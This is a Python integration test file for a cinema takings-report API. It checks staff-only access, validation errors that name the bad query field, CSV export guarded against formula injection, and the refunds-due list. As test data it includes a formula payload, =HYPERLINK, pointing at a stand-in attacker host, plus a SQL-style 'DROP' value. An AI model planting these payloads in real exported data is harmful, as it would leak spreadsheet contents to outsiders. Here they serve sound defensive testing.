"""The takings reports over HTTP: staff only; hostile query input answered with a problem
naming the field; CSV by `format=csv`, its text cells unable to run as formulas; the refunds
due list."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from uuid import UUID

import asyncpg
import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from services.ids import uuid7
from tests.integration.takings.books import Line, book, pay, refund

Client = AsyncTestClient[Litestar]
PROBLEM = "application/problem+json"
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


async def _show(pool: asyncpg.Pool) -> asyncpg.Record:
    async with pool.acquire() as conn:
        row: asyncpg.Record = await conn.fetchrow(
            """
            SELECT s.id, s.venue_id, s.film_id, s.starts_at,
                   array(SELECT st.id FROM seat st WHERE st.auditorium_id = s.auditorium_id
                         ORDER BY st.id LIMIT 4) AS seats
            FROM screening s ORDER BY s.starts_at LIMIT 1
            """
        )
    return row


async def test_the_reports_are_for_staff_only(client: Client, demo: asyncpg.Pool) -> None:
    show = await _show(demo)
    venue, film = str(show["venue_id"]), str(show["film_id"])
    for path, params in [
        ("/v1/staff/takings/day", {"venue": venue}),
        (f"/v1/staff/takings/screenings/{show['id']}", {}),
        ("/v1/staff/takings/film-week", {"venue": venue, "film": film}),
        ("/v1/staff/refunds-due", {}),
    ]:
        answer = await client.get(path, params=params)
        assert answer.status_code == 401, (path, answer.text)
        assert answer.headers["content-type"].startswith(PROBLEM)


DAY = "/v1/staff/takings/day"
WEEK = "/v1/staff/takings/film-week"


@pytest.mark.parametrize(
    ("path", "params", "status", "field"),
    [
        (DAY, {"venue": "VENUE", "date": "2026-02-30"}, 400, "date"),
        (DAY, {"venue": "VENUE", "date": "0001-01-01"}, 400, "date"),
        (DAY, {"venue": "VENUE", "date": "9999-12-31"}, 400, "date"),
        (DAY, {"venue": "VENUE", "date": "today; DROP"}, 400, "date"),
        (DAY, {"venue": "not-a-uuid"}, 400, "venue"),
        (DAY, {}, 400, "venue"),
        (DAY, {"venue": "UNKNOWN"}, 404, "venue"),
        (DAY, {"venue": "VENUE", "format": "xlsx"}, 400, "format"),
        (WEEK, {"venue": "VENUE", "film": "UNKNOWN"}, 404, "film"),
        (WEEK, {"venue": "UNKNOWN", "film": "FILM"}, 404, "venue"),
        (WEEK, {"venue": "VENUE", "film": "FILM", "week": "2026-13-01"}, 400, "week"),
        (WEEK, {"venue": "VENUE", "film": "FILM", "week": "0001-01-01"}, 400, "week"),
        (WEEK, {"venue": "VENUE"}, 400, "film"),
        ("/v1/staff/takings/screenings/UNKNOWN", {}, 404, "screening_id"),
        ("/v1/staff/refunds-due", {"venue": "UNKNOWN"}, 404, "venue"),
        ("/v1/staff/refunds-due", {"limit": "0"}, 400, "limit"),
        ("/v1/staff/refunds-due", {"limit": "99999999999999999999"}, 400, "limit"),
    ],
)
async def test_hostile_query_input_is_a_problem_naming_the_field(
    client: Client,
    demo: asyncpg.Pool,
    staff: dict[str, str],
    path: str,
    params: dict[str, str],
    status: int,
    field: str,
) -> None:
    show = await _show(demo)
    names = {"VENUE": str(show["venue_id"]), "FILM": str(show["film_id"]), "UNKNOWN": str(uuid7())}
    path = path.replace("UNKNOWN", names["UNKNOWN"])
    params = {key: names.get(value, value) for key, value in params.items()}
    answer = await client.get(path, params=params, headers=staff)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"].startswith(PROBLEM)
    assert field in [error["field"] for error in answer.json()["errors"]], answer.json()


async def test_csv_cells_cannot_run_as_formulas(
    client: Client, demo: asyncpg.Pool, staff: dict[str, str]
) -> None:
    show = await _show(demo)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)"]
    async with demo.acquire() as conn:
        await conn.execute("UPDATE film SET title = $2 WHERE id = $1", show["film_id"], hostile[0])
        await conn.execute("UPDATE auditorium SET name = $1", hostile[3])
        await conn.execute("UPDATE venue SET name = $1", hostile[2])
        lines = [Line(show["seats"][0], hostile[1], 1200, 0, 100, 2000)]
        booked = await book(conn, show["id"], show["venue_id"], lines, datetime.now(UTC))
        await pay(conn, booked, "cash", 1300, datetime.now(UTC))
    film, ticket, venue, room = (f"'{text}" for text in hostile)
    week = str(show["starts_at"].date())
    ids = {"venue": str(show["venue_id"]), "film": str(show["film_id"])}
    for path, params, guarded in [
        (DAY, {"venue": ids["venue"]}, {venue, ticket}),
        (f"/v1/staff/takings/screenings/{show['id']}", {}, {film, room, ticket}),
        (WEEK, {**ids, "week": week}, {film, venue, room, ticket}),
    ]:
        answer = await client.get(path, params={**params, "format": "csv"}, headers=staff)
        assert answer.status_code == 200, answer.text
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"].startswith("attachment; filename=")
        cells = {cell for row in csv.reader(io.StringIO(answer.text)) for cell in row}
        assert guarded <= cells, (path, guarded - cells)
        formulas = [
            c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not NUMBER.match(c))
        ]
        assert not formulas, formulas
    # The JSON keeps the text as it is.
    answer = await client.get(f"/v1/staff/takings/screenings/{show['id']}", headers=staff)
    assert answer.json()["film_title"] == hostile[0]
    assert answer.json()["ticket_types"][0]["ticket_type"] == hostile[1]


async def test_the_refunds_due_list_cancelled_and_unseated_bookings_holding_money(
    client: Client, demo: asyncpg.Pool, staff: dict[str, str]
) -> None:
    show = await _show(demo)
    now = datetime.now(UTC)
    async with demo.acquire() as conn:
        staff_id: UUID = await conn.fetchval("SELECT id FROM staff_user LIMIT 1")
        paid_then_cancelled = await book(
            conn,
            show["id"],
            show["venue_id"],
            [Line(show["seats"][0], "adult", 1000, 0, 0, 0)],
            now,
        )
        await pay(conn, paid_then_cancelled, "card", 1000, now)
        refunded_in_full = await book(
            conn,
            show["id"],
            show["venue_id"],
            [Line(show["seats"][1], "adult", 1000, 0, 0, 0)],
            now,
        )
        await pay(conn, refunded_in_full, "card", 1000, now)
        await refund(conn, refunded_in_full, "card", 1000, now, staff_id)
        still_seated = await book(
            conn,
            show["id"],
            show["venue_id"],
            [Line(show["seats"][2], "adult", 1000, 0, 0, 0)],
            now,
        )
        await pay(conn, still_seated, "cash", 1000, now)
    for booked in (paid_then_cancelled, refunded_in_full):
        answer = await client.post(
            f"/v1/bookings/{booked.reference}/cancel", json={"refund": True}, headers=staff
        )
        assert answer.status_code == 200, answer.text
    answer = await client.get(
        "/v1/staff/refunds-due", params={"venue": str(show["venue_id"])}, headers=staff
    )
    assert answer.status_code == 200, answer.text
    (due,) = answer.json()
    assert due["reference"] == paid_then_cancelled.reference
    assert (due["status"], due["paid"], due["refunded"], due["due"]) == ("cancelled", 1000, 0, 1000)
    assert due["refund_due"] is True
